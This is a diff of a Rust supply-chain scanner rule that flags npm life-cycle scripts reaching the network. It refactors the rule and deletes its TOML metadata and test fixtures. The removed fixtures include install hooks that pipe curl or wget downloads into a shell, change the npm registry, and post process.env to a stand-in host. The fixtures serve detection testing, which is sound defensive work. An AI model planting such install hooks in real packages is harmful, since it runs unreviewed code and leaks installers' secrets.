@@ -9,29 +9,17 @@ use std::sync::LazyLock;
 
 use regex::bytes::{Regex, RegexBuilder};
 
-use crate::{FactSink, Rule, RuleMeta};
+use crate::FactSink;
 use capdex_evidence::document::{Document, Language};
 use capdex_evidence::signals::{InstallScript, install_scripts};
 use capdex_evidence::subject::Subject;
 use capdex_evidence::zones::ZoneKind;
 use capdex_model::fact::{Confidence, Place, Severity};
 
-/// The rule.
-pub(super) struct PackageInstallScriptNetwork;
-
-static META: LazyLock<RuleMeta> =
-    LazyLock::new(|| toml::from_str(TEXT).expect("the rule's own text, which tests read"));
-
-impl Rule for PackageInstallScriptNetwork {
-    fn meta(&self) -> &RuleMeta {
-        &META
-    }
-
-    fn check(&self, subject: &Subject<'_>, facts: &mut FactSink<'_>) {
-        for script in install_scripts(subject) {
-            if let Some(danger) = danger_of(subject, &script) {
-                facts.found_as(danger.severity, danger.confidence, danger.place, &danger.evidence);
-            }
+pub(super) fn check(subject: &Subject<'_>, facts: &mut FactSink<'_>) {
+    for script in install_scripts(subject) {
+        if let Some(danger) = danger_of(subject, &script) {
+            facts.found_as(danger.severity, danger.confidence, danger.place, &danger.evidence);
         }
     }
 }
@@ -104,7 +92,7 @@ fn danger_of_file(document: &Document) -> Option<Danger> {
 /// Further into its line than this a hit is quoted from where it begins, in bytes.
 const LONG_LINE: usize = 100;
 
-/// Where a pattern first matches outside comments and printed advice, on a line that counts. Each line is asked once.
+/// The first match of a pattern outside comments and printed advice, on a line that counts. Each line is asked once.
 fn first_hit(document: &Document, pattern: &Regex, counts: impl Fn(&str) -> bool) -> Option<usize> {
     let (mut line_end, mut talk_end) = (0, 0);
     for hit in pattern.find_iter(document.text.as_bytes()) {
@@ -122,8 +110,8 @@ fn first_hit(document: &Document, pattern: &Regex, counts: impl Fn(&str) -> bool
     None
 }
 
-/// How much of a line is a comment or only prints, for files whose zones are not told apart: a printing command ends
-/// where the next begins, and a line that starts a process prints nothing that counts.
+/// The part of a line that is a comment or only prints, for files without zones. A printing command ends where the next
+/// begins, and a line that starts a process prints nothing that counts.
 fn talk_length(path: &str, line: &str) -> usize {
     let program = [".js", ".cjs", ".mjs", ".ts"].iter().any(|end| path.ends_with(end));
     let (comment, prints) =
@@ -138,8 +126,8 @@ fn talk_length(path: &str, line: &str) -> usize {
     end_of_command(line)
 }
 
-/// Where the first command of a shell line ends: at what separates commands outside quotation marks, or at what a
-/// shell runs even inside double ones.
+/// The end of the first command of a shell line: at what separates commands outside quotation marks, or at what a shell
+/// runs even inside double ones.
 fn end_of_command(line: &str) -> usize {
     let mut quote = None;
     for (at, byte) in line.bytes().enumerate() {
@@ -220,64 +208,3 @@ static SECRETS: LazyLock<Regex> = LazyLock::new(|| {
 static STARTS_PROCESS: LazyLock<Regex> = LazyLock::new(|| {
     pattern(r"\b(exec|execsync|execfile|spawn|spawnsync|system|popen|run|check_call|check_output)\s*\(")
 });
-
-const TEXT: &str = r#"
-id = "package-install-script-network"
-version = 1
-title = "Install script reaches the network, a registry or inline code"
-why = "A life-cycle script runs with the user's rights before anyone has looked at the package. One that fetches and runs code makes the reviewed package meaningless: what runs is decided by whoever owns the address at that moment."
-fix = "Ship what the script would fetch inside the package, or let the user run a documented command of their own. Never pipe a download into a shell and never change the user's registry."
-cannot_see = "What the fetched bytes do, scripts put together at run time, native code, and Python's build backends."
-severity = "critical"
-confidence = "high"
-kinds = ["skill", "mcp_server", "plugin", "package"]
-lifecycle = "stable"
-cites = ["owasp-mcp:MCP04", "SAFE-T1002"]
-codes = { agentscore = ["install_script"] }
-
-[[examples.fires]]
-note = "a download piped into a shell"
-files = { "package.json" = '{"name": "a", "scripts": {"postinstall": "curl -s http://203.0.113.7/i | sh"}}' }
-
-[[examples.fires]]
-note = "the registry is changed"
-files = { "package.json" = '{"name": "a", "scripts": {"preinstall": "npm config set registry http://registry.example/"}}' }
-
-[[examples.fires]]
-note = "code in the command line, behind another script"
-files = { "package.json" = '{"name": "a", "scripts": {"install": "npm run setup", "setup": "python3 -c \"import os; os.remove(0)\""}}' }
-
-[[examples.fires]]
-note = "a script of the package that sends the environment away"
-[examples.fires.files]
-"package.json" = '{"name": "a", "scripts": {"postinstall": "node scripts/setup"}}'
-"scripts/setup.js" = """
-const https = require('https');
-https.request({host: 'collect.test', method: 'POST'}).end(JSON.stringify(process.env));
-"""
-
-[[examples.fires]]
-note = "only the listing tells of the script"
-files = { "README.md" = "A package." }
-claims = { install_scripts = { known = [["postinstall", "wget -qO- http://a.test/x | bash"]] } }
-
-[[examples.silent]]
-note = "a local build step and a word of thanks with an address"
-files = { "package.json" = '{"name": "a", "scripts": {"postinstall": "node-gyp rebuild && echo See http://a.test/ for help"}}' }
-
-[[examples.silent]]
-note = "inline code that only prints or loads a local file"
-[examples.silent.files]
-"package.json" = '''{"name": "a", "scripts": {"postinstall": "node -e \"try{require('./post')}catch(e){}\"", "preinstall": "node -e \"console.log(1)\""}}'''
-"post.js" = "// fetch('http://a.test') was removed\nconsole.log('thanks');"
-
-[[examples.silent]]
-note = "the network outside the life cycle"
-files = { "package.json" = '{"name": "a", "scripts": {"test": "curl http://a.test | sh"}}' }
-
-[[examples.silent]]
-note = "advice that is printed"
-[examples.silent.files]
-"package.json" = '{"name": "a", "scripts": {"postinstall": "node check.js"}}'
-"check.js" = "console.error('Rust is missing. Run: curl http://a.test/rustup | sh');"
-"#;
